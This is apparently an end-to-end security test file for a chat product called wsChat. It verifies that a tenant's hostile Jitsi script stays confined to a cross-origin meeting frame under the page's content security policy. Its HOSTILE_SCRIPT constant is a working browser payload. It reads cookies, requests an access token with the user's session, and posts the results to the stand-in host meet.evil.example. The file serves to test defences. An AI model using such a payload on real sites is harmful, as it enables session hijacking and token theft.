"""No tenant-controlled script ever runs on wsChat's origin (docs/security.md, docs/video.md).

A tenant admin sets their Jitsi domain to a host they control, which serves a hostile ``external_api.js``: it
asks ``/api/auth/token`` for an access token with whatever session cookie the browser holds, reads
``document.cookie`` and sends both home. On wsChat's origin that would take over the signed-in user, in the
console during a call or on ``/demo?tenant=<that tenant>`` in a browser signed in to another tenant. wsChat's
pages load no script from that host and frame the meeting on the host's own origin instead; the hostile page
inside the frame may run its script there, and finds nothing of wsChat.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from playwright.async_api import BrowserContext, Frame, Locator, Page, expect

from tests.e2e.browser import Browser
from tests.e2e.console import Shop, go_online
from tests.e2e.jitsi import StandInJitsi, meeting_in
from tests.support import PASSWORD
from wschat.accounts.models import Role

pytestmark = pytest.mark.timeout(90)

EVIL = "meet.evil.example"
SCRIPT = f"https://{EVIL}/external_api.js"

#: What a hostile tenant admin serves as their "Jitsi API": steal a token with the browser's session cookie
#: (relative, from the origin it runs on, and from wsChat by name), read the cookies, report home. It also
#: defines `JitsiMeetExternalAPI`, so that a page that loads it would carry on as if nothing happened.
HOSTILE_SCRIPT = """
window.JitsiMeetExternalAPI = function () {
  this.addListener = function () {}; this.executeCommand = function () {}; this.dispose = function () {};
};
(async () => {
  const found = {origin: location.origin, cookie: document.cookie};
  window.hostileFound = found;
  const steal = async (url) => {
    try {
      const reply = await fetch(url, {method: 'POST', credentials: 'include'});
      return {status: reply.status, body: await reply.text()};
    } catch (error) {
      return {refused: String(error)};
    }
  };
  found.here = await steal('/api/auth/token');
  found.wschat = await steal('WSCHAT/api/auth/token');
  await fetch('https://EVIL/report', {method: 'POST', body: JSON.stringify(found)}).catch(() => {});
  window.hostileDone = true;
})();
"""


async def evil_jitsi(browser: Browser, shop: Shop) -> StandInJitsi:
    """acme's admin points acme's Jitsi at their own host; its meeting pages load the hostile script too."""
    await shop.video(jitsi={"domain": EVIL, "app_id": "wschat-acme", "secret": "s" * 40})
    await shop.set(auto_assign=True)
    browser.routed_hosts.add(EVIL)
    script = HOSTILE_SCRIPT.replace("WSCHAT", shop.server.origin).replace("EVIL", EVIL)
    return StandInJitsi(EVIL, script=script, extra_head='<script src="/external_api.js"></script>')


async def sign_in_to(page: Page, company: str, login: str) -> None:
    await page.get_by_label("Company").fill(company)
    await page.get_by_label("Login").fill(login)
    await page.get_by_label("Password").fill(PASSWORD)
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def directives(csp: str) -> dict[str, str]:
    return {part.split(" ", 1)[0]: part for part in (p.strip() for p in csp.split(";"))}


def assert_policy_frames_only(csp: str) -> None:
    """The page's policy names the tenant's host as a frame source and nowhere else."""
    policy = directives(csp)
    assert policy["script-src"] == "script-src 'self'", csp
    assert [d for d in policy.values() if EVIL in d] == [f"frame-src https://{EVIL}"], csp


async def join_and_see_who_loads_the_script(context: BrowserContext, join: Locator) -> None:
    """Joins the call; the hostile script is then requested by the meeting's frame, never by wsChat's page."""
    async with context.expect_event("request", lambda r: r.url == SCRIPT) as loading:
        await join.click()
    requested = await loading.value
    assert requested.frame.url.startswith(f"https://{EVIL}/"), f"{requested.frame.url} loaded {SCRIPT}"


async def hostile_script_finished(frame: Frame) -> None:
    await frame.wait_for_function("() => window.hostileDone === true", polling=100)


def assert_nothing_of_wschat_reached(evil: StandInJitsi) -> None:
    """The hostile script ran in the meeting's frame only, and what it sent home holds nothing of wsChat."""
    assert all(f.by.startswith(f"https://{EVIL}/") for f in evil.fetched if f.url == SCRIPT), evil.fetched
    reports: list[dict[str, Any]] = [json.loads(body) for body in evil.reports]
    assert reports, "the hostile script in the frame did not report"
    for report in reports:
        assert report["origin"] == f"https://{EVIL}", report
        assert report["cookie"] == "", report  # the meeting host's cookies: none of wsChat's
        assert report["here"]["status"] == 404, report  # its own host has no wsChat API
        assert set(report["wschat"]) == {"refused"}, report  # cross-origin: no cookie, no answer to read


async def test_a_hostile_jitsi_script_never_runs_in_the_console(browser: Browser, shop: Shop) -> None:
    """Bert, signed in with his session cookie, in a Jitsi call on acme's hostile "Jitsi"."""
    evil = await evil_jitsi(browser, shop)
    bert = await browser.page("/console/")
    await evil.install(bert.context)
    await sign_in_to(bert, "acme", "bert")
    await expect(bert.locator('meta[name="wschat-tenant"]')).to_have_attribute("content", "acme")
    reloaded = await bert.reload()  # the policy the console runs under now, made for acme
    assert reloaded is not None
    assert_policy_frames_only(reloaded.headers["content-security-policy"])
    await go_online(bert)
    visitor, _ = await shop.visitor("Sam", "Hello")
    await bert.get_by_role("tab", name=re.compile("Sam")).click()
    await join_and_see_who_loads_the_script(
        bert.context, bert.get_by_role("button", name="Video", exact=True)
    )
    await visitor.wait("call.invite")

    frame = await meeting_in(bert.locator(".jitsi"))
    await hostile_script_finished(frame)
    assert_nothing_of_wschat_reached(evil)
    assert await bert.evaluate("typeof window.hostileFound") == "undefined"
    assert await bert.evaluate("typeof window.JitsiMeetExternalAPI") == "undefined"
    await bert.get_by_role("button", name="Hang up").click()
    await visitor.wait("call.ended")


async def test_a_hostile_jitsi_script_never_runs_on_the_demo_page(browser: Browser, shop: Shop) -> None:
    """Gina of another tenant, signed in to the console, opens acme's demo page in the same browser and takes
    a Jitsi call there: her session cookie is the prize."""
    evil = await evil_jitsi(browser, shop)
    globex = await shop.server.make_tenant("globex")
    await shop.server.make_user(globex, "gina", Role.ADMIN)
    console = await browser.page("/console/")
    await evil.install(console.context)
    await sign_in_to(console, "globex", "gina")

    demo = await console.context.new_page()
    response = await demo.goto(f"{shop.server.origin}/demo?tenant=acme")
    assert response is not None
    assert_policy_frames_only(response.headers["content-security-policy"])
    agent = await shop.server.agent(shop.admin_token)
    await agent.ok("status.set", {"status": "online"})
    await demo.get_by_role("button", name="Open chat").click()
    panel = demo.get_by_role("dialog")
    composer = panel.get_by_role("textbox", name="Write a message")
    await composer.fill("Hello")
    await composer.press("Enter")
    assigned = await agent.wait("chat.assigned")
    await agent.ok("call.start", {"conversation_id": assigned["conversation"]["id"], "kind": "video"})
    await join_and_see_who_loads_the_script(demo.context, panel.get_by_role("button", name="Join"))

    frame = await meeting_in(panel)
    await hostile_script_finished(frame)
    assert_nothing_of_wschat_reached(evil)
    for page in (demo, console):
        assert await page.evaluate("typeof window.hostileFound") == "undefined"
